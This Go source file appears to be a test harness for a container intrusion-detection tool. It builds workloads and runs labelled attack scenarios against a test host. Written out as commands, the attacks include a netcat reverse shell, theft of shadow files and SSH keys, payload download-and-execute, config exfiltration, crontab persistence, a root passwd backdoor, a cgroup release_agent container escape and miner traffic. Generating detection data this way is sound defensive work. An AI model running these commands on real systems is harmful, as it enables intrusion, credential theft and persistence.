package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"

	"github.com/driftwatch/driftwatch/internal/testinfra"
)

// hosts are the two test hosts: workloads run on A, the test host B plays
// the clients, the cache, and the attackers' listeners and servers.
type hosts struct {
	A, B string // addresses
}

// workload is one benign containerised service.
type workload struct {
	name    string
	args    func(h hosts) []string // container entrypoint
	files   func(h hosts) map[string]fileSpec
	attacks []attack

	// containers-v2 only.
	split  string                           // manifest split of its benign scenarios
	debian []string                         // Debian packages of the image (minbase + these)
	setup  func(root string, h hosts) error // image build steps after the files
	load   func(h hosts) []string           // client load on test host B
	execs  []execEvent                      // exec probes and life events
	// stopSignal stops the container at a restart (the image's
	// STOPSIGNAL; 0 = SIGTERM); crashInLong makes its restart in the long
	// benign capture a SIGKILL instead.
	stopSignal  syscall.Signal
	crashInLong bool
	// newClient: the long benign capture adds a client of this workload
	// from an address never used in training (its load takes the source
	// address as a last argument).
	newClient bool
}

type fileSpec struct {
	mode os.FileMode
	data string
	copy string // copy this host file instead of data
}

// attack is one labelled attack run with `runc exec` in a workload's
// container.
type attack struct {
	scenario string // manifest scenario name
	name     string // label name
	user     string // runc exec --user; empty = root
	argv     func(h hosts) []string
	stdin    string
	// listen is a command on test host B started before the attack (a
	// listener for the reverse shell, the pool, the exfiltration sink).
	listen      []string
	listenStdin string

	// containers-v2 only.
	split      string
	mitre      []string
	fromB      func(h hosts) []string // the attack is this request from test host B (no runc exec)
	listenFile string                 // the listener's stdin is this file (a payload)
}

const webLoop = `while :; do
	busybox wget -q -O /dev/null http://%[1]s:8080/
	busybox wget -q -O /dev/null http://%[1]s:8080/about.html
	busybox wget -q -O /dev/null http://%[1]s:8080/cgi-bin/status
	busybox wget -q -O /dev/null http://%[1]s:8080/missing.html 2>/dev/null
	sleep 0.5
done`

const batchLoop = `n=0
while :; do
	n=$((n+1))
	tar -czf /tmp/backup.tgz /data/records 2>/dev/null
	gzip -t /tmp/backup.tgz
	sed 's/pending/done/' /data/records/orders.csv > /tmp/orders.out
	wc -l /tmp/orders.out > /var/log/batch.log
	mv /tmp/backup.tgz /data/archive/backup-$((n %% 5)).tgz
	rm -f /tmp/orders.out
	date >> /var/log/batch.runs
	sleep 6
done`

const workerLoop = `i=0
while :; do
	i=$((i+1))
	echo "SET job:$i $(date +%%s)" | nc -w 1 %[1]s 6379 > /tmp/reply
	echo $i > /data/queue/current
	cat /tmp/reply >> /data/queue/log
	if [ $((i %% 20)) -eq 0 ]; then : > /data/queue/log; fi
	sleep 1
done`

const aptGet = `#!/bin/sh
# A stand-in for apt-get: same name, same footprint on disk.
echo "Reading package lists..."
mkdir -p /var/lib/apt/lists/partial /var/cache/apt/archives /var/lib/dpkg
wget -q -O /var/cache/apt/archives/$3.deb http://%[1]s:8000/payload
echo "Package: $3" >> /var/lib/dpkg/status
cp /bin/busybox /usr/bin/$3
chmod 755 /usr/bin/$3
dpkg -l >/dev/null 2>&1
echo "Setting up $3 ..."
`

// reconScript is the discovery script the worker-discovery attack downloads
// from test host B: only commands the worker never runs, nothing a rule names.
const reconScript = `#!/bin/sh
id
uname -a
ps
netstat -tn 2>/dev/null || cat /proc/net/tcp
cat /proc/1/environ | tr '\0' '\n'
find / -xdev -perm -4000 -type f 2>/dev/null
ls -la /run /data
`

// appConfig is the web application's secret configuration, part of the
// image and never read by the benign workload.
const appConfig = `production:
  adapter: postgresql
  host: db.internal
  database: shop
  username: shop_app
  password: "s3cr3t-Pr0d-passw0rd"
`

const cgiStatus = `#!/bin/sh
echo "Content-Type: text/plain"
echo
date
cat /proc/loadavg
`

func workloads(helper string) []workload {
	return []workload{
		{
			name: "web",
			args: func(hosts) []string { return []string{"httpd", "-f", "-p", "8080", "-h", "/var/www"} },
			files: func(hosts) map[string]fileSpec {
				return map[string]fileSpec{
					"var/www/about.html":          {mode: 0o644, data: "<html>about</html>\n"},
					"var/www/cgi-bin/status":      {mode: 0o755, data: cgiStatus},
					"usr/local/bin/dwhelper":      {mode: 0o755, copy: helper},
					"srv/app/config/database.yml": {mode: 0o640, data: appConfig},
				}
			},
			attacks: []attack{
				{
					scenario: "web-reverse-shell", name: "reverse shell",
					argv:        func(h hosts) []string { return []string{"nc", h.B, "4444", "-e", "/bin/sh"} },
					listen:      []string{"busybox", "nc", "-l", "-p", "4444"},
					listenStdin: "id\nuname -a\ncat /etc/hostname\nls /var/www\nexit\n",
				},
				{
					scenario: "web-read-secrets", name: "read /etc/shadow and ssh keys",
					argv: func(hosts) []string {
						return []string{"sh", "-c", "cat /etc/shadow >/dev/null; ls -la /root/.ssh; cat /root/.ssh/id_rsa; cat /home/app/.ssh/id_rsa"}
					},
				},
				{
					scenario: "web-drop-execute", name: "drop and execute a new binary",
					argv: func(h hosts) []string {
						return []string{"sh", "-c", fmt.Sprintf("mkdir -p /tmp/.cache && wget -q -O /tmp/.cache/kworkerd http://%[1]s:8000/payload && chmod +x /tmp/.cache/kworkerd && /tmp/.cache/kworkerd beacon %[1]s:8001", h.B)}
					},
					listen: []string{"busybox", "nc", "-l", "-p", "8001"},
				},
				{
					scenario: "web-interactive-shell", name: "interactive shell with a tty",
					argv:  func(hosts) []string { return []string{"/usr/local/bin/dwhelper", "pty", "/bin/sh", "-i"} },
					stdin: "id\nls /var/www\ncat /etc/passwd\nexit\n",
				},
				// Attacks below are named by no default rule: only the
				// learned profile can tell them from the workload.
				{
					scenario: "web-config-exfiltration", name: "application secrets sent to a new peer",
					argv: func(h hosts) []string {
						return []string{"sh", "-c", fmt.Sprintf("cat /srv/app/config/database.yml >/dev/null; wget -q -O /dev/null --post-file /srv/app/config/database.yml http://%s:8081/collect", h.B)}
					},
					listen:      []string{"busybox", "nc", "-l", "-p", "8081"},
					listenStdin: "HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n",
				},
				{
					scenario: "web-cron-persistence", name: "persistence through a crontab",
					argv: func(h hosts) []string {
						return []string{"sh", "-c", fmt.Sprintf("mkdir -p /var/spool/cron/crontabs && echo '*/5 * * * * wget -q -O- http://%s:8000/payload | sh' > /var/spool/cron/crontabs/root && chmod 600 /var/spool/cron/crontabs/root", h.B)}
					},
				},
			},
		},
		{
			name: "batch",
			args: func(hosts) []string { return []string{"sh", "-c", fmt.Sprintf(batchLoop)} },
			files: func(h hosts) map[string]fileSpec {
				return map[string]fileSpec{
					"data/records/orders.csv":     {mode: 0o644, data: strings.Repeat("1001,widget,pending\n1002,gadget,shipped\n", 50)},
					"data/records/customers.csv":  {mode: 0o644, data: strings.Repeat("42,Ada,ada@example.test\n", 40)},
					"data/archive/.keep":          {mode: 0o644},
					"usr/local/bin/dwhelper":      {mode: 0o755, copy: helper},
					"usr/local/bin/backup-helper": {mode: 0o755 | os.ModeSetuid, copy: helper},
					"usr/bin/apt-get":             {mode: 0o755, data: fmt.Sprintf(aptGet, h.B)},
				}
			},
			attacks: []attack{
				{
					scenario: "batch-setuid-privesc", name: "privilege escalation through a setuid binary", user: "1000:1000",
					argv: func(hosts) []string {
						return []string{"/usr/local/bin/backup-helper", "suid", "/bin/sh", "-c", "id; cat /etc/shadow > /tmp/.s"}
					},
				},
				{
					scenario: "batch-memfd-exec", name: "fileless execution from a memfd",
					argv: func(hosts) []string {
						return []string{"/usr/local/bin/dwhelper", "memfd", "sh", "-c", "id; uname -a; ls /data/records"}
					},
				},
				{
					scenario: "batch-write-etc-bin", name: "writes below /etc and binary directories",
					argv: func(h hosts) []string {
						return []string{"sh", "-c", fmt.Sprintf("echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd; echo '* * * * * root nc %s 4444 -e /bin/sh' > /etc/crontab; cp /bin/busybox /usr/bin/sshd-helper; echo '#!/bin/sh' > /bin/ls.orig; chmod 755 /bin/ls.orig", h.B)}
					},
				},
				{
					scenario: "batch-package-manager", name: "package manager run in a container",
					argv: func(hosts) []string { return []string{"/usr/bin/apt-get", "install", "-y", "ncat"} },
				},
				{
					scenario: "batch-lateral-movement", name: "lateral movement to an internal database",
					argv: func(h hosts) []string {
						return []string{"sh", "-c", fmt.Sprintf("nc -w 1 %[1]s 22 </dev/null; printf 'SELECT usename, passwd FROM pg_shadow;\\n' | nc -w 2 %[1]s 5432", h.B)}
					},
					listen:      []string{"busybox", "nc", "-l", "-p", "5432"},
					listenStdin: "postgres|md5c0ffee\n",
				},
			},
		},
		{
			name: "worker",
			args: func(h hosts) []string { return []string{"sh", "-c", fmt.Sprintf(workerLoop, h.B)} },
			files: func(hosts) map[string]fileSpec {
				return map[string]fileSpec{
					"data/queue/current":     {mode: 0o644, data: "0\n"},
					"data/customers.csv":     {mode: 0o644, data: strings.Repeat("7,Grace,grace@example.test,4111-1111-1111-1111\n", 60)},
					"usr/local/bin/dwhelper": {mode: 0o755, copy: helper},
				}
			},
			attacks: []attack{
				{
					scenario: "worker-miner", name: "miner connection to a stratum port",
					argv: func(h hosts) []string {
						return []string{"sh", "-c", fmt.Sprintf(`echo '{"id":1,"method":"mining.subscribe","params":["xmrig/6.21.0"]}' | nc -w 3 %s 3333`, h.B)}
					},
					listen:      []string{"busybox", "nc", "-l", "-p", "3333"},
					listenStdin: `{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a"]],"08000002",4],"error":null}` + "\n",
				},
				{
					scenario: "worker-exfiltration", name: "exfiltration to an unknown peer",
					argv: func(h hosts) []string {
						return []string{"sh", "-c", fmt.Sprintf("tar -cz /data 2>/dev/null | nc -w 3 %s 9999", h.B)}
					},
					listen: []string{"busybox", "nc", "-l", "-p", "9999"},
				},
				{
					scenario: "worker-ptrace", name: "ptrace attach to the worker process",
					argv: func(hosts) []string { return []string{"/usr/local/bin/dwhelper", "ptrace", "1"} },
				},
				{
					scenario: "worker-container-escape", name: "container escape attempt (mount, release_agent)",
					argv: func(hosts) []string {
						return []string{"sh", "-c", "mkdir -p /tmp/cgrp; mount -t cgroup -o memory cgroup /tmp/cgrp; " +
							"echo 1 > /sys/fs/cgroup/memory/notify_on_release; echo /tmp/x > /sys/fs/cgroup/memory/release_agent; " +
							"echo /tmp/x > /sys/fs/cgroup/unified/release_agent; mount -t proc proc /tmp/cgrp; nsenter -t 1 -m -u -n -p sh -c id"}
					},
				},
				{
					scenario: "worker-discovery", name: "discovery script piped from a download into sh",
					argv: func(h hosts) []string {
						return []string{"sh", "-c", fmt.Sprintf("wget -q -O- http://%s:8000/recon.sh | sh > /dev/shm/.out 2>&1", h.B)}
					},
				},
			},
		},
	}
}

// payloadPort is the port of test host B's web server for the attackers'
// downloads (served).
const payloadPort = 8000

// served is what test host B's web server holds: the drop-and-execute
// payload (the static helper) and the discovery script.
func served(helper string) map[string]fileSpec {
	return map[string]fileSpec{
		"payload":  {mode: 0o755, copy: helper},
		"recon.sh": {mode: 0o644, data: reconScript},
	}
}

// buildRootfs makes the workload's image root: a busybox rootfs plus its
// files.
func buildRootfs(dir string, w workload, h hosts) error {
	if w.debian != nil {
		if err := testinfra.MakeDebianRootfs("", dir, w.debian); err != nil {
			return err
		}
	} else if err := testinfra.MakeBusyboxRootfs(dir); err != nil {
		return err
	}
	if err := writeFiles(dir, w.files(h)); err != nil {
		return err
	}
	if w.setup != nil {
		return w.setup(dir, h)
	}
	return nil
}

// writeFiles writes files (paths relative to dir) with their modes.
func writeFiles(dir string, files map[string]fileSpec) error {
	for rel, f := range files {
		p := filepath.Join(dir, rel)
		if err := noSymlinkParent(dir, rel); err != nil {
			return err
		}
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			return fmt.Errorf("write %s: %w", p, err)
		}
		// An image's symlink (Debian's sites-enabled/default points to an
		// absolute path) must be replaced, not followed to the host.
		if err := os.Remove(p); err != nil && !os.IsNotExist(err) {
			return fmt.Errorf("write %s: %w", p, err)
		}
		if f.copy != "" {
			if err := testinfra.CopyFile(f.copy, p, f.mode); err != nil {
				return fmt.Errorf("write %s: %w", p, err)
			}
			continue
		}
		if err := os.WriteFile(p, []byte(f.data), f.mode.Perm()); err != nil {
			return fmt.Errorf("write %s: %w", p, err)
		}
		if err := os.Chmod(p, f.mode); err != nil {
			return fmt.Errorf("write %s: %w", p, err)
		}
	}
	return nil
}

// noSymlinkParent refuses a path below dir whose existing parent directories
// include a symlink: an image's absolute links (Debian's /var/run -> /run)
// would lead the write out of the root onto the host.
func noSymlinkParent(dir, rel string) error {
	parts := strings.Split(filepath.Clean(rel), string(filepath.Separator))
	cur := dir
	for _, p := range parts[:len(parts)-1] {
		cur = filepath.Join(cur, p)
		fi, err := os.Lstat(cur)
		if os.IsNotExist(err) {
			return nil
		}
		if err != nil {
			return fmt.Errorf("write %s: %w", rel, err)
		}
		if fi.Mode()&os.ModeSymlink != 0 {
			return fmt.Errorf("write %s: %s is a symlink in the image (the write would leave the root)", rel, cur)
		}
	}
	return nil
}
